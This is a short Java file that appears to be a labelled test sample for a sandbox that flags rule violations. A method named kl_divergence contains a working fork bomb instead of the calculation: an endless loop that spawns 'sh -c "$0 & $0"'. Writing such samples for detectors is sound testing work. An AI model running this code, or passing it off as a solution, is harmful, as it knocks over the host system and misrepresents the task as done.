// Starts itself again and again.
// verdict: RULE_VIOLATION
// walls: gate, os
// names: ProcessBuilder.start
public class Solution {
    public static double kl_divergence(double[] p, double[] q) throws Exception {
        while (true) {
            new ProcessBuilder("sh", "-c", "$0 & $0").start();
        }
    }
}
